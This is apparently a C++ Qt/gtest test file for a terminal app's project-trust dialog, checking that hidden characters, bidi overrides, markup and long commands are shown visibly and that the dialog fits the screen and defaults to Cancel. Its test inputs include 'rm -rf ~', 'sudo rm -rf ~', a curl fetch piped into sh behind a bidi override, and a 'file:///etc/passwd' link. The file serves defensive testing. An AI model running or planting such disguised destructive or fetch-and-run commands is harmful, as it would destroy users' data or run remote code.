// What the trust confirmation shows of what the user is asked to trust, and the box that shows it.
#include "app/projecttrustprompt.h"

#include "base/visibletext.h"
#include "platform/qt/qtalertpresenter.h"
#include "shelltestsupport.h"
#include "uikit/handedfocusaccessible.h"

#include <QAccessible>
#include <QApplication>
#include <QDialog>
#include <QLabel>
#include <QPushButton>
#include <QScreen>
#include <QTest>
#include <QTextDocument>
#include <QTextEdit>
#include <QTimer>
#include <functional>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <tuple>

namespace korvane {
namespace {

using namespace std::string_literals;
using testing::Contains;
using testing::ElementsAreArray;
using testing::HasSubstr;

TEST(VisibleTextTest, WhatHidesOrReordersTextIsShownAndLongTextIsBounded) {
    const std::vector<std::tuple<std::string, VisibleText::Limits, std::vector<std::string>>> cases = {
        {"make\r\nrm -rf ~\n\vx\u2028y",
         {6, 99},
         {"make<U+000D>↵", "rm -rf ~↵", "<U+000B>", "x<U+2028>", "y"}},
        {"\x1b[8m\tx\x00y\x7f\u009b\u0085z"s,
         {2, 99},
         {"<U+001B>[8m<U+0009>x<U+0000>y<U+007F><U+009B><U+0085>", "z"}},
        {"rm \u202Etxt.exe\u2066\u200F\u200B\u00A0\uFEFF\xff",
         {1, 99},
         {"rm <U+202E>txt.exe<U+2066><U+200F><U+200B><U+00A0><U+FEFF><0xFF>"}},
        {"café e\u0301\u0301\u0301 true" + std::string(300, ' ') + "; sh",
         {1, 99},
         {"café e\u0301\u0301<U+0301> true<300 spaces>; sh"}},
        {"if x:\n" + std::string(16, ' ') + "y", {6, 99}, {"if x:↵", std::string(16, ' ') + "y"}},
        {std::string(25, 'a') + "\u202E", {6, 10}, {"aaaaaaaaaa", "aaaaaaaaaa", "aaaaa", "<U+202E>"}},
        {"1\n2\r\n3\n4",
         {2, 99},
         {"1↵", "2<U+000D>↵", "… 3 more characters, 1 of them line break, not shown"}},
    };
    for (const auto& [text, limits, shown] : cases) {
        EXPECT_THAT(VisibleText::lines(text, limits), ElementsAreArray(shown)) << text;
    }
    EXPECT_EQ(VisibleText::line("k\ne\x1by" + std::string(12, 'k'), 20),
              "k↵e<U+001B>ykkkkkkkk … 4 more characters not shown");
}

// Snippets that would type commands into a terminal: the box shows each one's text, each link's whole
// address, each key and command, all of it visible and none of it cut, however long.
TEST(ProjectTrustPromptTest, TheBoxShowsTheTextAndAddressesItAsksTrustFor) {
    ManualSnippet deploy{.key = "deploy", .expand = "git pull\ncurl -s x.invalid/i \u202Ehs.|\u202C\nexit"};
    ManualSnippet sig{.key = "sig\x1b]0;ok\x07", .expand = "Regards\r\nsudo rm -rf ~"};
    ManualSnippet tall{.key = "tall" + std::string(300, 'l') + "!",
                       .expand = "1\n2\n3\n4\n5\n6\n7\n8\nhidden"};
    ManualSnippet local{.key = "local", .url = "file:///etc/passwd?" + std::string(150, 'q') + "#end"};
    const auto request =
        ProjectTrustStore::request("/p\u202E", {{.id = "p", .label = "P", .command = "make\nrm -rf ~"}},
                                   {sig}, {deploy, sig, tall}, {local});
    const std::string message = ProjectTrustPrompt::message(*request).value();
    const std::string indent = "\n        ";
    EXPECT_THAT(
        message,
        HasSubstr(
            "The project '/p<U+202E>' asks for trust.\n\nCommands it will run:\n    make↵\n    rm -rf ~"));
    EXPECT_THAT(message, HasSubstr("Snippets of yours it will replace:\n    sig<U+001B>]0;ok<U+0007>" +
                                   indent + "Regards<U+000D>↵" + indent + "sudo rm -rf ~"));
    EXPECT_THAT(message,
                HasSubstr("Snippets with line breaks it will insert:\n    deploy" + indent + "git pull↵" +
                          indent + "curl -s x.invalid/i <U+202E>hs.|<U+202C>↵" + indent + "exit\n"));
    EXPECT_THAT(message, HasSubstr("    tall" + std::string(300, 'l') + "!" + indent + "1↵" + indent + "2↵" +
                                   indent + "3↵" + indent + "4↵" + indent + "5↵" + indent + "6↵" + indent +
                                   "7↵" + indent + "8↵" + indent + "hidden\n"));
    EXPECT_THAT(message,
                HasSubstr("it will open:\n    local" + indent + "file:///etc/passwd?" + std::string(61, 'q') +
                          indent + std::string(80, 'q') + indent + std::string(9, 'q') + "#end"));
    // Trusting the project also trusts its folder for the user's own commands, and the box says so.
    EXPECT_THAT(message,
                testing::EndsWith("It also trusts the folder: your own commands run there with its "
                                  "repository's whole git configuration, hooks and filters included."));
}

// The reason a folder's commands wait breaks between words wherever the line ends, and only a word
// longer than a line is broken; nothing of it is lost or added.
TEST(ProjectTrustPromptTest, TheWaitingReasonBreaksBetweenWords) {
    const std::string heading = "What keeps your own commands from running there now:";
    for (std::size_t length = 1; length <= ProjectTrustPrompt::contentWidth; ++length) {
        const std::string reason = "/home/u/" + std::string(length, 'p') +
                                   "/.git/config sets core.fsmonitor: starts a program, like " +
                                   std::string(100, 'w') + " does";
        SCOPED_TRACE(reason);
        const std::string message = ProjectTrustPrompt::folderMessage("/f", reason);
        const std::size_t at = message.find(heading);
        ASSERT_NE(at, std::string::npos);
        std::string joined;
        std::vector<std::string> lines;
        for (std::size_t start = message.find("\n    ", at); start != std::string::npos;) {
            const std::size_t end = message.find("\n    ", start + 1);
            lines.push_back(message.substr(start + 5, end == std::string::npos ? end : end - start - 5));
            joined += lines.back();
            start = end;
        }
        EXPECT_EQ(joined, reason);
        for (std::size_t i = 0; i < lines.size(); ++i) {
            EXPECT_LE(lines[i].size(), ProjectTrustPrompt::contentWidth) << lines[i];
            const bool endsAWord = i + 1 == lines.size() || lines[i].back() == ' ';
            const bool wordLongerThanALine = lines[i].size() == ProjectTrustPrompt::contentWidth &&
                                             lines[i].find(' ') == std::string::npos;
            EXPECT_TRUE(endsAWord || wordLongerThanALine) << lines[i] << " | " << lines[i + 1];
        }
    }
}

// What the question box shows as plain text: each label in the format it resolves to, each text view.
std::vector<std::string> shownTexts(const QWidget& box) {
    std::vector<std::string> shown;
    for (const QLabel* label : box.findChildren<QLabel*>()) {
        QTextDocument document;
        const bool plain = label->textFormat() == Qt::PlainText ||
                           (label->textFormat() == Qt::AutoText && !Qt::mightBeRichText(label->text()));
        plain ? document.setPlainText(label->text()) : document.setHtml(label->text());
        shown.push_back(document.toPlainText().toStdString());
    }
    for (const QTextEdit* view : box.findChildren<QTextEdit*>()) {
        shown.push_back(view->toPlainText().toStdString());
    }
    return shown;
}

// Asks `message` under `title`, does `answer` to the box once it is up, and returns the answer.
bool ask(const std::string& message, const std::function<void(QDialog&)>& answer,
         const char* title = ProjectTrustPrompt::title) {
    test::ensureShellApplication();
    QTimer::singleShot(0, [&] {
        auto* box = qobject_cast<QDialog*>(QApplication::activeModalWidget());
        ASSERT_NE(box, nullptr);
        answer(*box);
        if (box->isVisible()) {
            box->reject();
        }
    });
    return QtAlertPresenter().confirm(title, message, ProjectTrustPrompt::acceptLabel);
}

// The names of the objects under `node` that say they have the focus.
void collectFocused(QAccessibleInterface* node, std::vector<std::string>& names) {
    if (node->state().focused) {
        names.push_back(node->text(QAccessible::Name).toStdString());
    }
    for (int i = 0; i < node->childCount(); ++i) {
        collectFocused(node->child(i), names);
    }
}

// A root or command that reads as markup never restyles the box (a tag on the first line would make the
// whole message rich text, where text hides), and however long the list, the box fits the screen with its
// buttons and the whole text within reach. "Cancel" is the default; Escape answers it too. An alert
// shows its text as written as well.
TEST(TrustBoxTest, ShowsItsTextAsWrittenWithinTheScreen) {
    std::string message = "The project '/tmp/<h1>x</h1><font color=white>hidden</font>' asks for trust.";
    for (int i = 0; i < 300; ++i) {
        message += "\n    make step-" + std::to_string(i);
    }
    EXPECT_FALSE(ask(message, [&](QDialog& box) {
        EXPECT_THAT(shownTexts(box), Contains(message));
        EXPECT_LE(box.frameGeometry().height(), box.screen()->availableGeometry().height());
        std::vector<std::string> buttons;
        for (const QPushButton* button : box.findChildren<QPushButton*>()) {
            EXPECT_TRUE(box.rect().contains(button->mapTo(&box, button->rect().bottomRight())));
            buttons.push_back(button->text().toStdString() + (button->isDefault() ? " (default)" : ""));
        }
        EXPECT_THAT(buttons, testing::UnorderedElementsAre("Trust", "Cancel (default)"));
    }));
    std::vector<std::string> alert;
    QTimer::singleShot(0, [&] {
        alert = shownTexts(*QApplication::activeModalWidget());
        QApplication::activeModalWidget()->close();
    });
    QtAlertPresenter().showInfoAlert("Trust Failed", "<b>x</b> y");
    EXPECT_THAT(alert, Contains("<b>x</b> y"));
    EXPECT_FALSE(ask("short", [](QDialog& box) { QTest::keyClick(&box, Qt::Key_Escape); }));
    EXPECT_FALSE(ask("short", [](QDialog& box) { QTest::keyClick(&box, Qt::Key_Return); }));
    EXPECT_TRUE(ask("short", [](QDialog& box) {
        for (QPushButton* button : box.findChildren<QPushButton*>()) {
            if (button->text() == QStringLiteral("Trust")) {
                button->click();
            }
        }
    }));
    // On a focused "Trust" as anywhere, Return answers "Cancel"; Space presses "Trust", as the README says.
    const auto onTrust = [](Qt::Key key) {
        return [key](QDialog& box) {
            for (QPushButton* button : box.findChildren<QPushButton*>()) {
                if (button->text() == QStringLiteral("Trust")) {
                    button->setFocus();
                    QTest::keyClick(button, key);
                }
            }
            EXPECT_FALSE(box.isVisible()) << "the key left the box open";
        };
    };
    EXPECT_FALSE(ask("short", onTrust(Qt::Key_Return)));
    EXPECT_TRUE(ask("short", onTrust(Qt::Key_Space)));
}

// With the interfaces Korvane installs as it starts, either trust box tells a screen reader one object
// with the focus wherever Tab puts it: its text, named by the question it explains, then each button. The
// row of buttons hands its focus to its first button and must not claim it beside that button.
TEST(TrustBoxTest, TellsOneFocusNamedAtEveryStop) {
    test::ensureShellApplication();
    HandedFocusAccessible::install();
    for (const char* title : {ProjectTrustPrompt::title, ProjectTrustPrompt::folderTitle}) {
        std::vector<std::vector<std::string>> stops;
        ask(
            "short",
            [&](QDialog& box) {
                ASSERT_TRUE(QTest::qWaitForWindowActive(&box));
                for (int stop = 0; stop < 3; ++stop) {
                    stops.emplace_back();
                    collectFocused(QAccessible::queryAccessibleInterface(&box), stops.back());
                    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
                }
            },
            title);
        const std::vector<std::vector<std::string>> expected = {{title}, {"Trust"}, {"Cancel"}};
        EXPECT_EQ(stops, expected) << title;
    }
    std::vector<std::string> alert;
    QTimer::singleShot(0, [&] {
        QWidget* box = QApplication::activeModalWidget();
        ASSERT_TRUE(QTest::qWaitForWindowActive(box));
        collectFocused(QAccessible::queryAccessibleInterface(box), alert);
        box->close();
    });
    QtAlertPresenter().showInfoAlert("Too Much to Show", "The project asks for more than can be shown.");
    EXPECT_EQ(alert, std::vector<std::string>{"OK"});
}

} // namespace
} // namespace korvane
